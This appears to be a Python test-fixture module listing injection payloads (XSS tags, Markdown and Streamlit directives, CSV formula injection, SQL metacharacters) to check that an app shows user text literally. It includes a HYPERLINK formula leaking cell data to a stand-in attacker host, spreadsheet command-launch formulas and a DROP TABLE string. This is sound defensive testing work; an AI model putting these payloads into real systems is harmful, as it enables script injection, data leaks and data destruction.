"""Text payloads: what a member, an import or an address can put where pages, CSV files and reports
show text. Each corpus is a tuple of strings, so a test can parametrize over it or write all of it
into fixture data; `ALL` is every payload once, in a stable order."""

from __future__ import annotations

XSS = (
    "<script>alert('xss')</script>",
    '<img src="http://attacker.invalid/x.png" onerror="alert(1)">',
    "<a href=\"javascript:alert('a')\">click</a>",
    "[click](javascript:alert('md'))",
    '<svg onload="alert(2)"><circle r="9"/></svg>',
    "&lt;script&gt;alert(3)&lt;/script&gt; &amp; &#60;b&#62;",
    '<iframe src="http://attacker.invalid/frame"></iframe>',
    '"><script>alert(4)</script><"',
    "<details open ontoggle=alert(5)>x</details>",
)
"""HTML and script: must show as the characters typed, never as elements or handlers."""

MARKDOWN = (
    "![x](http://attacker.invalid/p.png)",
    "[a link](http://attacker.invalid/)",
    "http://attacker.invalid/bare",
    "https://attacker.invalid/secure?a=1",
    "www.attacker.invalid",
    "mail me: someone@attacker.invalid",
    "<http://attacker.invalid/angle>",
    "# A header",
    "**bold** _italic_ ~~struck~~ `code`",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "<div>an HTML block</div>",
    "$x^2$ and $$\\frac{1}{2}$$",
    ":smile: :material/warning: :rainbow[colours]",
    ":red[red] :blue-background[blue]",
    "> quoted\n- item\n1. one",
    "line\\\nbreak &nbsp; \\*kept\\*",
)
"""Markdown and Streamlit's own directives: must not format, link or load anything."""

CSV_FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
)
"""Spreadsheet formulas (OWASP CSV injection): no CSV cell may start with = + - @ tab or CR."""

SQL = (
    "O'Brien",
    "'; DROP TABLE members; --",
    "a' OR '1'='1",
    "/* comment */ x",
    "100%",
    "snake_case",
    "back\\slash",
    "nul\x00byte",
    '"double" quotes',
)
"""SQL metacharacters: searches and filters find exactly the rows holding them, and never fail."""

ALL = XSS + MARKDOWN + CSV_FORMULAS + SQL
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
